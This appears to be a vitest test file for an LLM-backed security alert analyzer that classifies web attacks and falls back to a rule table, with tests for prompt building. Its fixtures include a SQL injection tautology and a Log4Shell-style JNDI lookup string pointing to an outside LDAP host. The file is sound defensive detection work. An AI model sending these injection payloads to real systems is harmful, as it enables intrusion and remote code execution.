import { describe, it, expect, vi, beforeEach, type Mock } from "vitest";
import { ExpertAnalyzer, createExperts } from "../../experts/index.js";
import { EXPERT_SYSTEM_PROMPT, buildExpertPrompt } from "../../experts/prompts.js";
import { loadFallbackRules } from "../../experts/rules.js";
import {
  MalformedResponseError,
  RemoteFailureSubType,
  RemoteUnavailableError,
} from "../../errors/index.js";
import type { CompletionResult, GenerationClient } from "../../llm/types.js";
import { parseAlert } from "../../validation.js";

const rules = loadFallbackRules();

function completion(body: unknown): CompletionResult {
  return {
    text: typeof body === "string" ? body : JSON.stringify(body),
    tokenCount: 120,
    model: "test-model",
    finishReason: "stop",
  };
}

describe("ExpertAnalyzer", () => {
  let generate: Mock<GenerationClient["generate"]>;
  let client: GenerationClient;

  const alert = parseAlert({ payload: "' OR '1'='1", sourceIp: "10.0.0.5" });

  beforeEach(() => {
    generate = vi.fn<GenerationClient["generate"]>();
    client = { generate };
  });

  describe("model path", () => {
    it("should build the finding from the model's JSON", async () => {
      generate.mockResolvedValue(
        completion({
          attack_technique: "Boolean-based SQL injection",
          risk_score: 9,
          recommendations: ["Use prepared statements", "Deploy a WAF"],
          analysis: "Tautology bypasses the WHERE clause",
        })
      );
      const expert = new ExpertAnalyzer({
        category: "web_attack",
        client,
        rules: rules.web_attack,
      });

      const outcome = await expert.analyze(alert);

      expect(outcome).toEqual({
        finding: {
          technique: "Boolean-based SQL injection",
          riskScore: 9,
          threatLevel: "high",
          advice: ["Use prepared statements", "Deploy a WAF"],
          analysis: "Tautology bypasses the WHERE clause",
        },
        degraded: false,
      });
    });

    it("should request JSON with the configured sampling options", async () => {
      generate.mockResolvedValue(
        completion({ attack_technique: "SQL injection", risk_score: 8 })
      );
      const expert = new ExpertAnalyzer({
        category: "web_attack",
        client,
        rules: rules.web_attack,
      });

      await expert.analyze(alert);

      expect(generate).toHaveBeenCalledTimes(1);
      expect(generate).toHaveBeenCalledWith(buildExpertPrompt("web_attack", alert), {
        responseFormat: "json",
        systemPrompt: EXPERT_SYSTEM_PROMPT,
        temperature: 0.3,
        maxTokens: 512,
      });
    });

    it("should clamp out-of-range model scores", async () => {
      generate.mockResolvedValue(
        completion({ attack_technique: "Probe", risk_score: 0.2 })
      );
      const expert = new ExpertAnalyzer({
        category: "web_attack",
        client,
        rules: rules.web_attack,
      });

      const { finding } = await expert.analyze(alert);

      expect(finding.riskScore).toBe(1);
      expect(finding.threatLevel).toBe("low");
    });
  });

  describe("fallback path", () => {
    it("should use the rule table when the endpoint is unreachable", async () => {
      generate.mockRejectedValue(
        new RemoteUnavailableError(
          "chat/completions request failed: connect ECONNREFUSED",
          RemoteFailureSubType.NETWORK,
          "chat/completions"
        )
      );
      const expert = new ExpertAnalyzer({
        category: "web_attack",
        client,
        rules: rules.web_attack,
      });

      const outcome = await expert.analyze(alert);

      expect(outcome.degraded).toBe(true);
      expect(outcome.failureReason).toBe(
        "chat/completions request failed: connect ECONNREFUSED"
      );
      expect(outcome.finding).toEqual({
        technique: "SQL injection",
        riskScore: 8,
        threatLevel: "high",
        advice: [
          "Use parameterized queries for every database call",
          "Deploy a WAF rule set for SQL injection",
          "Validate and type-check request parameters",
        ],
        analysis:
          'Rule-based analysis: payload matched indicator "\' or", classified as SQL injection with risk score 8.',
      });
      expect(console.warn).toHaveBeenCalled();
    });

    it("should use the rule table when the model answers with prose", async () => {
      generate.mockResolvedValue(completion("Sorry, I cannot help with that."));
      const expert = new ExpertAnalyzer({
        category: "web_attack",
        client,
        rules: rules.web_attack,
      });

      const outcome = await expert.analyze(alert);

      expect(outcome.degraded).toBe(true);
      expect(outcome.failureReason).toBe("Expert response contains no JSON object");
      expect(outcome.finding.technique).toBe("SQL injection");
    });

    it("should never reject, even on unexpected errors", async () => {
      generate.mockRejectedValue(new TypeError("Cannot read properties of undefined"));
      const expert = new ExpertAnalyzer({
        category: "web_attack",
        client,
        rules: rules.web_attack,
      });

      const outcome = await expert.analyze(alert);

      expect(outcome.degraded).toBe(true);
      expect(outcome.failureReason).toBe("Cannot read properties of undefined");
      expect(console.error).toHaveBeenCalled();
    });

    it("should use the table default when no indicator matches", () => {
      const expert = new ExpertAnalyzer({
        category: "illegal_connection",
        client,
        rules: rules.illegal_connection,
      });

      const finding = expert.fallback(parseAlert({ payload: "random traffic" }));

      expect(finding.technique).toBe("Suspicious connection");
      expect(finding.riskScore).toBe(4);
      expect(finding.threatLevel).toBe("medium");
      expect(finding.advice).toHaveLength(2);
      expect(finding.analysis).toBe(
        "Rule-based analysis: no specific indicator matched, classified as Suspicious connection with risk score 4."
      );
    });

    it("should classify fallback scores with custom breakpoints", async () => {
      generate.mockRejectedValue(
        new MalformedResponseError("chat/completions: empty choices array", "{}")
      );
      const expert = new ExpertAnalyzer({
        category: "web_attack",
        client,
        rules: rules.web_attack,
        breakpoints: { high: 9, medium: 5 },
      });

      const { finding } = await expert.analyze(alert);

      expect(finding.riskScore).toBe(8);
      expect(finding.threatLevel).toBe("medium");
    });
  });
});

describe("createExperts", () => {
  it("should build one analyzer per category with its own table", () => {
    const experts = createExperts({ generate: vi.fn<GenerationClient["generate"]>() }, rules);

    expect(experts.web_attack.category).toBe("web_attack");
    expect(experts.vulnerability_attack.category).toBe("vulnerability_attack");
    expect(experts.illegal_connection.category).toBe("illegal_connection");

    const finding = experts.vulnerability_attack.fallback(
      parseAlert({ payload: "${jndi:ldap://198.51.100.7/a}" })
    );
    expect(finding.technique).toBe("Remote code execution (JNDI / code injection)");
    expect(finding.riskScore).toBe(10);
  });
});

describe("buildExpertPrompt", () => {
  it("should include the alert fields", () => {
    const prompt = buildExpertPrompt(
      "illegal_connection",
      parseAlert({
        payload: "beacon every 60s",
        sourceIp: "10.0.0.8",
        targetIp: "203.0.113.9",
        attackType: "c2",
        protocol: "HTTPS",
      })
    );

    expect(prompt).toContain("- Declared attack type: c2");
    expect(prompt).toContain("- Connection payload / traffic features: beacon every 60s");
    expect(prompt).toContain("- Source IP: 10.0.0.8");
    expect(prompt).toContain("- Target IP: 203.0.113.9\n- Protocol: HTTPS");
  });

  it("should mark missing fields unknown and omit the protocol line", () => {
    const prompt = buildExpertPrompt("web_attack", parseAlert({ payload: "GET /" }));

    expect(prompt).toContain("- Declared attack type: unknown");
    expect(prompt).toContain("- Source IP: 0.0.0.0\n- Target IP: unknown\n\n");
    expect(prompt).not.toContain("- Protocol:");
  });

  it("should cut long payloads to 500 characters", () => {
    const prompt = buildExpertPrompt(
      "web_attack",
      parseAlert({ payload: "a".repeat(600) })
    );

    expect(prompt).toContain(`- Payload: ${"a".repeat(500)}\n- Source IP`);
  });
});
